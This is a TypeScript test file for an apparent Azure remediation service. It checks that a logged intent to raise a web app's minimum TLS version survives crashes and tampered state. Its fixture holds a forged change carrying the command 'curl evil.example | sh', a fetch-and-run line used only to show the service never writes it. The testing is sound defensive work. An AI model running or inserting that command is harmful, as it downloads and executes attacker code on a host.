/** What somebody who may write tables, but cannot sign, makes of a remembered intent: the log decides what was intended. */
import { describe, expect, test } from 'vitest';
import type { Change } from '../../../src/domain/changes/change.ts';
import { refused } from '../../fakes/azure/arm.ts';
import { gridEvent } from '../../fakes/azure/event-grid.ts';
import { SHOP } from '../../fakes/azure/resources.ts';
import { deliverAndSettle } from '../../fakes/scenarios/scenarios.ts';
import { factsIn, type Scene, scene } from '../../fakes/scenarios/scene.ts';
import { watchedDeps } from '../../fakes/wrappers/watched.ts';
import { tlsNow } from '../approvals/rolling-back.ts';

const COMMAND = '/properties/appCommandLine';
const forged: Change[] = [{ document: 'config/web', path: COMMAND, from: 'curl evil.example | sh', to: null }];

/** A process that died after the intent was logged, before or after Azure took the write. */
async function died(when: 'before' | 'after'): Promise<Scene> {
  let left = 1;
  const made = scene({
    app: { config: { minTlsVersion: '1.0' } },
    ports: (whole) =>
      watchedDeps(whole, async (name, go) => {
        if (name !== 'arm.write' || left-- <= 0) return go();
        if (when === 'after') await go();
        throw new Error('the process ended');
      }),
  });
  await made.host.deliver(gridEvent('e', SHOP));
  made.world.clock.advance(30);
  await made.host.work();
  expect(factsIn(made.world)).toEqual(['fix.intended webapp-min-tls']);
  return made;
}

function tamper({ world }: Scene): void {
  const [[key, memory] = []] = world.stored.resourceStates;
  if (!key || !memory) throw new Error('the resource is remembered');
  const attempts = memory.attempts.map((attempt) => ({ ...attempt, changes: forged }));
  world.stored.resourceStates.set(key, { ...memory, attempts });
}

describe('guarantee 14: an intent is what the log says, whatever the tables remember', () => {
  test.each(['before', 'after'] as const)('the process died %s the write', async (when) => {
    const made = await died(when);
    tamper(made);
    await made.host.settle();
    expect(tlsNow(made.world)).toBe('1.2');
    expect(factsIn(made.world)).toEqual(['fix.intended webapp-min-tls', 'fix.applied webapp-min-tls']);
    expect(JSON.stringify([made.world.stored.entries, made.world.arm.requests])).not.toContain(COMMAND);
  });

  test('what was blocked is tried again as it is judged now', async () => {
    const made = scene({ app: { config: { minTlsVersion: '1.0' } } });
    const { world, host } = made;
    world.arm.onWrite = () => refused('blocked', 'ScopeLocked');
    await deliverAndSettle(host, 'first', SHOP);
    tamper(made);
    world.arm.onWrite = null;
    await deliverAndSettle(host, 'second', SHOP);
    const kinds = ['fix.intended', 'fix.blocked', 'fix.applied'];
    expect([tlsNow(world), factsIn(world)]).toEqual(['1.2', kinds.map((kind) => `${kind} webapp-min-tls`)]);
    expect(JSON.stringify(world.stored.entries)).not.toContain(COMMAND);
  });

  test('the app is gone', async () => {
    const made = await died('before');
    tamper(made);
    made.world.arm.remove(SHOP);
    await made.host.settle();
    expect(factsIn(made.world)).toEqual(['fix.intended webapp-min-tls', 'fix.failed webapp-min-tls']);
    expect(JSON.stringify(made.world.stored.entries)).not.toContain(COMMAND);
  });

  test('an intent whose entry was edited is none, and the service says so', async () => {
    const made = await died('after');
    const { entries } = made.world.stored;
    entries.splice(0, 1, ...entries.map((entry) => ({ ...entry, changes: forged })));
    await made.host.settle();
    expect(factsIn(made.world, 'fix.applied')).toEqual([]);
  });
});
